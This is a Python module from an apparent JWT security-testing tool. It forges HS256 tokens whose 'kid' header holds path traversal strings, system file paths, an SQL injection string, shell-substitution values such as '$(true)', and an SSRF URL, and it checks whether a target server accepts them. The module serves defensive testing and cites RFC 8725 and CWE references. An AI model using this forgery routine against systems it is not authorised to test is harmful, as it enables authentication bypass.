"""Tokens whose `kid` leads the server to a key that the attacker knows."""

from pathlib import Path

from ..attack import Attack
from ..attacker import Attacker
from ..exchange import Exchange
from ..forge import header_of, signed_by_hmac
from ..verdict import Verdict, held, succeeded

FILES = (
    "/dev/null",
    "../../../../../../../../dev/null",
    "/etc/hostname",
    "/proc/sys/kernel/ostype",
)
OTHERS: tuple[object, ...] = (
    "' UNION SELECT '' --",
    "| true",
    "$(true)",
    "http://localhost:1/key",
    "",
    [],
    ["/dev/null"],
    {},
    None,
    0,
    True,
    "\x00",
    "x" * 2_000,
    "x" * 20_000,
)


def _run(attacker: Attacker) -> Verdict:
    target = attacker.target
    target.require_tokens()
    login = target.log_in()
    header, payload = header_of(login.credential), login.credential.split(".")[1]
    tried = 0
    for kid in (*FILES, *OTHERS):
        for secret in (b"", _content(kid)):
            token = signed_by_hmac(header | {"alg": "HS256", "kid": kid}, payload, secret)
            answer = target.me(login, token)
            tried += 1
            if answer.accepted:
                return succeeded(f"A token with the kid {str(kid)[:40]!r} was accepted.")
            _check(answer)
    return held(f"None of {tried} tokens with a forged kid was accepted.")


def _check(answer: Exchange) -> None:
    if answer.status >= 500:
        raise AssertionError(f"a kid broke the server: it answered {answer.status}")


def _content(kid: object) -> bytes:
    """What the file of this name holds on the attacker's own machine, which is this one."""
    path = Path(kid) if isinstance(kid, str) and kid.startswith("/") else None
    return path.read_bytes() if path is not None and path.is_file() else b"\0"


ATTACK = Attack(
    id="forged-kid",
    title="A kid that is a path, a query or a command",
    story="An attacker signs a token with a secret that everybody knows, such as an empty file."
    " They set its `kid` to where the server finds that secret. A server that loads whatever"
    " `kid` names verifies the token with it.",
    references=("RFC 8725 section 3.10", "CWE-22", "CWE-89", "ASVS V9.1.3"),
    defences=("signatures of tokens are verified",),
    run=_run,
)
